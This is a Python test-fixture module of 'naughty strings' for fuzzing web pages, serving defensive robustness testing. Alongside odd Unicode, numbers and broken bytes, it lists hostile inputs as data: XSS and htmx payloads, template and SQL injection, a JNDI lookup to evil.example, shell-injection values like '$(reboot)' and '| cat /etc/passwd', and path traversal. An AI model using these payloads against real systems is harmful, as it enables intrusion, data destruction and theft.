"""Texts that have broken websites before: our own collection."""

from tests.injected.faults import share

MARKS = "̀́̂̃̄̅̆̇̈̉"
FAMILY = "👩🏽‍❤️‍💋‍👨🏿👨‍👩‍👧‍👦"

CONTROLS = [
    "\x00", "nul\x00inside", "\x01\x02\x03", "\x07bell", "\x08back", "\x0b\x0c", "\x1b[31mred", "\x7f", "\x80\x9f",
    "\x85next line", "\u2028", "\u2029paragraph", "\ufeffmark", "\ufffe", "\uffff", "\U0010ffff", "\ufffd",
    "tab\tinside", "two\nlines", "two\r\nlines", "old\rmac",
]  # fmt: skip

INVISIBLE = [
    " ", "\u00a0", "\u3000", "\u200b", "zero\u200bwidth", "\u200d", "\u200e\u200f", "\u2060", "\u00ad", "\u034f",
    "\u061c", "\u115f\u1160", "\u3164", "\uffa0", "\u2800", "\u180e", "\U000e0061\U000e007f", "\ufe0f",
]  # fmt: skip

DIRECTIONS = [
    "\u202eturned around", "\u202d", "\u202a\u202b\u202c", "\u2066isolated\u2069", "\u2067", "שלום @alice", "مرحبا",
    "abc \u202egpj.exe",
]  # fmt: skip

LETTERS = [
    "e" + "\u0301" * 300, "a" + MARKS * 30, "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮", "é", "e\u0301", "Å", "A\u030a", "ﷺ",
    "ﬁ", "İ", "ı", "ß", "ẞ", "ſ", "\u212a", "ΑΒΓ", "аdmin", "ｆｕｌｌ", "①②", "𝕬𝖑𝖎𝖈𝖊", "नमस्ते", "ஸ்ரீ", "กำ", "각",
    "陈", "𠜎", "👍🏿", "🇪🇺", FAMILY, FAMILY * 60, "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "✊🏾" * 30, "\u0301", "\u20dd",
]  # fmt: skip

MARKUP = [
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'\" onmouseover='alert(1)'",
    "</textarea><script>", "</title><svg onload=alert(1)>", "<!--", "]]>", "<![CDATA[x]]>", "&lt;b&gt;", "&#0;",
    "&#x110000;", "&amp;amp;", "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)", "JaVaScRiPt:alert(1)",
    "data:text/html,<script>1</script>", "vbscript:x", "https://example.org/\"onmouseover=\"x",
    "https://example.org/<script>", "`onerror=x`", "<style>*{display:none}</style>", "hx-get=\"/logout\"",
    "<b hx-post=/logout hx-trigger=load>",
]  # fmt: skip

CODE = [
    "{{7*7}}", "{% debug %}", "{{ settings.SECRET_KEY }}", "{% load x %}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "${jndi:ldap://evil.example/x}", "'; DROP TABLE users; --", "1' OR '1'='1", "$(reboot)", "`reboot`", "; reboot",
    "| cat /etc/passwd", "%s%s%s%n", "{0.__class__}", "__proto__", "constructor", "=1+1", "@SUM(1)",
    "attribute_exists(PK)", ":pk", "u#1#post", "#", "u#x#y", "handle#alice",
]  # fmt: skip

PATHS = [
    "../../etc/passwd", "..%2f..%2fetc", "%00", "%2e%2e/", "C:\\windows", "\\\\evil\\share", "//evil.example",
    "/\\evil.example", "file:///etc/passwd", "/", ".", "..", "~", "%", "%zz", "%ff%fe", "?", "&on=1", ";x=1",
]  # fmt: skip

NUMBERS = [
    "0", "-1", "-0", "1e126", "1e999", "NaN", "Infinity", "9" * 39, "2147483648", "0x10", "1,000", "１２３", "null",
    "None", "undefined", "true", "[]", "{}", "9999-12-31", "1970-01-01T00:00:60Z",
]  # fmt: skip

LONG = [
    "x" * 2_049,
    "é" * 5_000,
    "a b " * 10_000,
    "@alice " * 3_000,
    "https://example.org/" + "a" * 20_000,
]

STRINGS = CONTROLS + INVISIBLE + DIRECTIONS + LETTERS + MARKUP + CODE + PATHS + NUMBERS + LONG

# What pages are tried with: one of twelve, others each run, or all with `FAULTS=long`.
SOME = share(STRINGS, one_of=12, salt="naughty strings")

HUGE = "x" * 400_000  # beyond what a request may hold

# Bytes that are no UTF-8: lone surrogates, overlong forms, a cut-off letter, a byte of no meaning.
BROKEN_BYTES = [
    b"\xed\xa0\x80", b"\xed\xbf\xbf", b"a\xed\xa0\xbdb", b"\xc0\xaf", b"\xe0\x80\xaf", b"\xf0\x9f\x91", b"\xff",
    b"\xfe\xff", b"\xf8\x88\x80\x80\x80", b"caf\xe9",
]  # fmt: skip
